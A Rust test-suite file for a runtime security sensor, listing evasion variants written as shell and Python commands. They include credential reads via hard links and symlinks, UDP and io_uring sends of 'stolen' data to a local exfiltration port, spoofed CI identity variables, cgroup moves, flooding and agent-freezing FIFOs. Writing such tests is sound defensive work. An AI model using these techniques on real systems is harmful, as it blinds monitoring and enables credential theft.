//! The evasion suite: the attacks of `attacks`, done the way an attacker who has read the sensor's
//! code would do them (issue 12). One family per way of not being seen: freezing the agent,
//! choosing another identity, the coverage blind spots (`#!` scripts, renames and links onto
//! outputs, secrets through links, unconnected sends, io_uring), triggering a novelty once so the
//! real attack later is old news, flooding a dimension past its cap, and losing kernel records.
//!
//! Each variant runs like an attack of `attacks` (bash, at the end of an otherwise identical run,
//! or in the service's cgroup) with, besides `$WS`, `$HOME`, `$ACTOR`, `$EXFIL_PORT` and
//! `$ARTIFACT`: `$TAG` (unique per variant and workload, for file names), `$SECRET` (a fresh fake
//! credential, `$HOME/.ssh/id_$TAG`, that no other run touched), `$URING` (the io_uring helper,
//! `uring.py`), `$CGROUP2` (the cgroup v2 root) and, for CI jobs, `$LEARNING_RUN_ID` (the id of
//! the job's first learning run). Needles as in `attacks`, plus `{tag}` and `{secret}` (the
//! secret's file name); they are also matched against the deviation's kind (`blind-spot`,
//! `identity-switch`).

/// Where and when a variant runs.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Scope {
    /// Every workload, CI jobs and the service.
    Every,
    /// CI jobs only: the variant's earlier step needs an earlier *run*, and a service's novelty
    /// is reported once per hour, not per window.
    Jobs,
    /// Once per suite, on the first job, after every other run: the variant may leave the agent
    /// stuck for good (today's agent is), which would blind every later measurement.
    Last,
}

/// One evasion variant. Detected when a deviation of the run (not of its prime) at
/// `min_severity` or higher contains one of `needles`, within `max_latency_ms` of its action when
/// set, and when the prime run stored at most `prime_bound` deviations when set.
pub struct Evasion {
    pub family: &'static str,
    pub name: &'static str,
    /// The last step of an earlier run of the same job (or an earlier service window): planting a
    /// link, triggering the novelty once, flooding.
    pub prime: Option<&'static str>,
    pub script: &'static str,
    pub needles: &'static [&'static str],
    /// 3 = HIGH; 2 = MEDIUM for network-only variants (what issue 12 asks of them).
    pub min_severity: u8,
    pub scope: Scope,
    /// The detecting deviation must be stored within this long of the action (a stalled agent
    /// reports late or never).
    pub max_latency_ms: Option<f64>,
    /// The prime run may store at most this many deviations (a flood must not bury the
    /// collector).
    pub prime_bound: Option<usize>,
}

const HIGH: u8 = 3;
const MEDIUM: u8 = 2;

const fn variant(
    family: &'static str,
    name: &'static str,
    script: &'static str,
    needles: &'static [&'static str],
) -> Evasion {
    Evasion {
        family,
        name,
        prime: None,
        script,
        needles,
        min_severity: HIGH,
        scope: Scope::Every,
        max_latency_ms: None,
        prime_bound: None,
    }
}

const fn network(mut e: Evasion) -> Evasion {
    e.min_severity = MEDIUM;
    e
}

/// CI jobs only (a service has no run id to borrow).
const fn jobs(mut e: Evasion) -> Evasion {
    e.scope = Scope::Jobs;
    e
}

const fn primed(mut e: Evasion, prime: &'static str, scope: Scope) -> Evasion {
    e.prime = Some(prime);
    e.scope = scope;
    e
}

/// A variant that freezes the agent (if it can): runs last, and its follow-up must be stored
/// within seconds.
const fn freezing(mut e: Evasion) -> Evasion {
    e.scope = Scope::Last;
    e.max_latency_ms = Some(5_000.0);
    e
}

const fn flood(mut e: Evasion) -> Evasion {
    e.prime_bound = Some(FLOOD_BOUND);
    e
}

/// Deviations a flood run may store: tens, not thousands.
pub const FLOOD_BOUND: usize = 100;

/// A copy of python that renames its own executable away, plants `$kind` (`fifo`, `pty`,
/// `trace_pipe`) at the old path, then does something new (writes a file) so that a deviation
/// names the executable path and the agent looks at it; then the follow-up: a secret read. The
/// pty variant keeps the terminal's master open for a while so that the slave stays openable.
macro_rules! plant {
    ($kind:literal) => {
        concat!(
            "cp /usr/bin/python3 \"$WS/.py-$TAG\"\n\"$WS/.py-$TAG\" - \"$WS/.py-$TAG\" ",
            $kind,
            " <<'PY'\nimport os, sys, time\np, kind = sys.argv[1], sys.argv[2]\nos.rename(p, p + '.o')\n",
            "if kind == 'fifo':\n    os.mkfifo(p)\nelif kind == 'pty':\n    master, slave = os.openpty()\n",
            "    os.symlink(os.ttyname(slave), p)\nelse:\n    t = '/sys/kernel/tracing/trace_pipe'\n",
            "    os.symlink(t if os.path.exists(t) else '/sys/kernel/debug/tracing/trace_pipe', p)\n",
            "open(p + '.out', 'w').write('x')\nif kind == 'pty':\n    time.sleep(3)\nPY\n",
            "cat \"$SECRET\" > /dev/null"
        )
    };
}

/// Every variant, grouped by family, in the order they run on a workload (flooding late: it
/// fills dimensions the others need; kernel losses after it, so that the flood is not lost;
/// `Scope::Last` after everything).
pub const EVASIONS: &[Evasion] = &[
    // `#!` scripts: the kernel runs the interpreter, which the job has learnt.
    variant(
        "script exec",
        "#!/bin/bash script dropped in /dev/shm and run",
        "printf '#!/bin/bash\\nexit 0\\n' > \"/dev/shm/.upd-$TAG\"\nchmod +x \"/dev/shm/.upd-$TAG\"\n\"/dev/shm/.upd-$TAG\"\nrm -f \"/dev/shm/.upd-$TAG\"",
        &["/dev/shm/.upd-{tag}"],
    ),
    variant(
        "script exec",
        "#!/usr/bin/env bash script dropped in the workspace and run",
        "printf '#!/usr/bin/env bash\\ntrue\\n' > \"$WS/.step-$TAG\"\nchmod +x \"$WS/.step-$TAG\"\n\"$WS/.step-$TAG\"",
        &[".step-{tag}"],
    ),
    variant(
        "script exec",
        "#!/bin/sh script dropped in /tmp and run",
        "printf '#!/bin/sh\\n:\\n' > \"/tmp/.x-$TAG\"\nchmod +x \"/tmp/.x-$TAG\"\n\"/tmp/.x-$TAG\"\nrm -f \"/tmp/.x-$TAG\"",
        &["/tmp/.x-{tag}"],
    ),
    // Output tampering without writing the output: the new content arrives by name.
    variant(
        "rename onto output",
        "mv a dropped file over the build output",
        "cp /bin/true \"$WS/.o-$TAG\"\nmv -f \"$WS/.o-$TAG\" \"$WS/$ARTIFACT\"",
        &["{artifact}"],
    ),
    variant(
        "rename onto output",
        "ln -f a dropped file over the build output",
        "cp /bin/true \"$WS/.l-$TAG\"\nln -f \"$WS/.l-$TAG\" \"$WS/$ARTIFACT\"",
        &["{artifact}"],
    ),
    variant(
        "rename onto output",
        "os.replace (rename(2)) from python over the build output",
        "python3 -c \"import os; w = os.environ['WS']; t = w + '/.p-' + os.environ['TAG']; open(t, 'w').write('x'); os.replace(t, w + '/' + os.environ['ARTIFACT'])\"",
        &["{artifact}"],
    ),
    // Secrets by another name.
    primed(
        variant(
            "secret via link",
            "hard link planted in an earlier run, read now",
            "cat \"$HOME/.cache/.k-$TAG\" > /dev/null",
            &[".k-{tag}", "{secret}"],
        ),
        "mkdir -p \"$HOME/.cache\"\nln -f \"$SECRET\" \"$HOME/.cache/.k-$TAG\"",
        Scope::Every,
    ),
    variant(
        "secret via link",
        "secret moved aside, read, moved back",
        "mv \"$SECRET\" \"$WS/.m-$TAG\"\ncat \"$WS/.m-$TAG\" > /dev/null\nmv \"$WS/.m-$TAG\" \"$SECRET\"",
        &[".m-{tag}", "{secret}"],
    ),
    variant(
        "secret via link",
        "read through a symlinked directory",
        "ln -sfn \"$HOME/.ssh\" \"$WS/.keys-$TAG\"\ncat \"$WS/.keys-$TAG/id_$TAG\" > /dev/null",
        &[".keys-{tag}", "{secret}"],
    ),
    variant(
        "secret via link",
        "hard link made and read in one run",
        "ln -f \"$SECRET\" \"$WS/.h-$TAG\"\ncat \"$WS/.h-$TAG\" > /dev/null",
        &[".h-{tag}", "{secret}"],
    ),
    // Destinations without connect(2).
    network(variant(
        "unconnected send",
        "UDP sendto to a new port",
        "python3 -c \"import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'stolen', ('127.0.0.1', int(os.environ['EXFIL_PORT'])))\"",
        &["\"port\":{port}"],
    )),
    network(variant(
        "unconnected send",
        "UDP sendmsg to a new port",
        "python3 -c \"import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendmsg([b'stolen'], [], 0, ('127.0.0.1', int(os.environ['EXFIL_PORT'])))\"",
        &["\"port\":{port}"],
    )),
    network(variant(
        "unconnected send",
        "TCP fast open (sendto with MSG_FASTOPEN)",
        "python3 -c \"import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.sendto(b'stolen', socket.MSG_FASTOPEN, ('127.0.0.1', int(os.environ['EXFIL_PORT']))); s.close()\"",
        &["\"port\":{port}"],
    )),
    // io_uring: the kernel opens and connects for the ring, no syscall tracepoint fires.
    variant(
        "io_uring",
        "secret opened and read through io_uring",
        "python3 \"$URING\" read \"$SECRET\"",
        &["{secret}", "io_uring", "io-uring"],
    ),
    network(variant(
        "io_uring",
        "connect and send through io_uring",
        "python3 \"$URING\" connect \"$EXFIL_PORT\"",
        &["\"port\":{port}", "io_uring", "io-uring"],
    )),
    variant(
        "io_uring",
        "a no-op request (first use of a ring)",
        "python3 \"$URING\" nop",
        &["io_uring", "io-uring"],
    ),
    // Identity chosen by the process: inside a job it stays (a claim); from a service that never
    // handed off, the handoff itself is new to the service.
    variant(
        "identity switch",
        "complete GitHub variables with another job name",
        "env GITHUB_REPOSITORY=\"${GITHUB_REPOSITORY:-evil/x}\" GITHUB_WORKFLOW=\"${GITHUB_WORKFLOW:-ci}\" GITHUB_JOB=\"lint-$TAG\" GITHUB_RUN_ID=\"${GITHUB_RUN_ID:-1}\" cat \"$SECRET\" > /dev/null",
        &["{secret}", "identity-switch"],
    ),
    jobs(variant(
        "identity switch",
        "the run id of a learning run (learnt into the real baseline)",
        "GITHUB_RUN_ID=\"$LEARNING_RUN_ID\" cat \"$SECRET\" > /dev/null",
        &["{secret}", "identity-switch"],
    )),
    variant(
        "identity switch",
        "GitLab variables instead of GitHub's",
        "env -u GITHUB_REPOSITORY -u GITHUB_WORKFLOW -u GITHUB_JOB -u GITHUB_RUN_ID CI_PROJECT_PATH=evil/p CI_JOB_NAME=\"x-$TAG\" CI_JOB_ID=1 cat \"$SECRET\" > /dev/null",
        &["{secret}", "identity-switch"],
    ),
    variant(
        "identity switch",
        "moves itself into a new cgroup",
        "mkdir -p \"$CGROUP2/evade-$TAG\"\nbash -c 'echo $$ > \"$1/cgroup.procs\" && exec cat \"$2\" > /dev/null' _ \"$CGROUP2/evade-$TAG\" \"$SECRET\"",
        &["{secret}", "identity-switch"],
    ),
    // Trigger once (a test, a harmless ping), then the real thing in a later run.
    primed(
        variant(
            "repeat novelty",
            "secret read again in a later run",
            "cat \"$SECRET\" > /dev/null",
            &["{secret}"],
        ),
        "cat \"$SECRET\" > /dev/null",
        Scope::Jobs,
    ),
    primed(
        network(variant(
            "repeat novelty",
            "same exfiltration port in a later run",
            "curl -s -m 3 --data-binary @\"$WS/out.txt\" \"http://127.0.0.1:$EXFIL_PORT/\" > /dev/null || true",
            &["\"port\":{port}"],
        )),
        "curl -s -m 3 \"http://127.0.0.1:$EXFIL_PORT/ping\" > /dev/null || true",
        Scope::Jobs,
    ),
    primed(
        variant(
            "repeat novelty",
            "same dropped tool run again in a later run",
            "cp /bin/true \"$WS/.tool-$TAG\"\nchmod +x \"$WS/.tool-$TAG\"\n\"$WS/.tool-$TAG\"",
            &[".tool-{tag}"],
        ),
        "cp /bin/true \"$WS/.tool-$TAG\"\nchmod +x \"$WS/.tool-$TAG\"\n\"$WS/.tool-$TAG\"",
        Scope::Jobs,
    ),
    // Past the cap: 20,001 novelties in one run, then one more in the next.
    flood(primed(
        network(variant(
            "flood",
            "20,001 UDP connects to distinct addresses, then a new port next run",
            "python3 -c \"import os, socket; s = socket.create_connection(('127.0.0.1', int(os.environ['EXFIL_PORT']))); s.sendall(b'x'); s.close()\"",
            &["\"port\":{port}", "127.0.0.1:{port}/"],
        )),
        "python3 -c \"import socket\nfor i in range(20001):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(('127.%d.%d.%d' % (1 + (i >> 16), (i >> 8) & 255, i & 255), 9))\n    s.close()\"",
        Scope::Jobs,
    )),
    flood(primed(
        variant(
            "flood",
            "20,001 distinct files written, then a secret read next run",
            "cat \"$SECRET\" > /dev/null",
            &["{secret}"],
        ),
        "python3 -c \"import os; d = os.environ['WS'] + '/.flood'; os.makedirs(d); [open('%s/q%dz' % (d, i), 'w').close() for i in range(20001)]\"",
        Scope::Jobs,
    )),
    flood(primed(
        variant(
            "flood",
            "20,001 distinct DNS names, then a tunnelling name next run",
            "python3 - <<'PY'\nimport os, socket, struct\nlabels = [os.urandom(24).hex(), 't-' + os.environ['TAG'], 'exfil', 'test']\nname = b''.join(bytes([len(l)]) + l.encode() for l in labels) + b'\\0'\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 16, 1), ('127.0.0.1', 53))\nPY",
            &["t-{tag}.exfil"],
        ),
        "python3 - <<'PY'\nimport os, socket, struct\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(20001):\n    labels = ['q%dz' % i, 'flood-' + os.environ['TAG'], 'test']\n    name = b''.join(bytes([len(l)]) + l.encode() for l in labels) + b'\\0'\n    s.sendto(struct.pack('>HHHHHH', i & 0xffff, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1), ('127.0.0.1', 53))\nPY",
        Scope::Jobs,
    )),
    // More records than the ring holds: what the sensor did not see must be a finding. The
    // files are named like mktemp's (`tmp.<10 characters>`), so they generalise to one path: the
    // flood costs the agent events, not deviations.
    variant(
        "kernel loss",
        "100,000 distinct files created, then opened by 3 processes at once",
        "python3 -c \"import os; d = '/dev/shm/.loss-' + os.environ['TAG']; os.makedirs(d, exist_ok=True); [open('%s/tmp.%010d' % (d, i), 'w').close() for i in range(100000)]\"\nfor i in 1 2 3; do python3 -c \"import os; d = '/dev/shm/.loss-' + os.environ['TAG']; [os.close(os.open('%s/tmp.%010d' % (d, i), os.O_RDONLY)) for i in range(100000)]\" & done\nwait\nrm -rf \"/dev/shm/.loss-$TAG\"",
        &["blind-spot"],
    ),
    variant(
        "kernel loss",
        "48 short-lived processes create 4,000 distinct files each",
        "mkdir -p \"/dev/shm/.loss-$TAG\"\nseq 0 47 | xargs -P 48 -I{} python3 -c \"import os; d = '/dev/shm/.loss-%s/{}' % os.environ['TAG']; os.makedirs(d, exist_ok=True); [open('%s/tmp.%010d' % (d, i), 'w').close() for i in range(4000)]\"\nrm -rf \"/dev/shm/.loss-$TAG\"",
        &["blind-spot"],
    ),
    // The agent looks at a path the process controls: it must not stall on it.
    freezing(variant(
        "frozen agent",
        "FIFO planted at its own executable's path, then a secret read",
        plant!("fifo"),
        &["{secret}"],
    )),
    freezing(variant(
        "frozen agent",
        "symlink to a terminal planted at its own executable's path, then a secret read",
        plant!("pty"),
        &["{secret}"],
    )),
    freezing(variant(
        "frozen agent",
        "symlink to a never-ending regular file (trace_pipe), then a secret read",
        plant!("trace_pipe"),
        &["{secret}"],
    )),
];
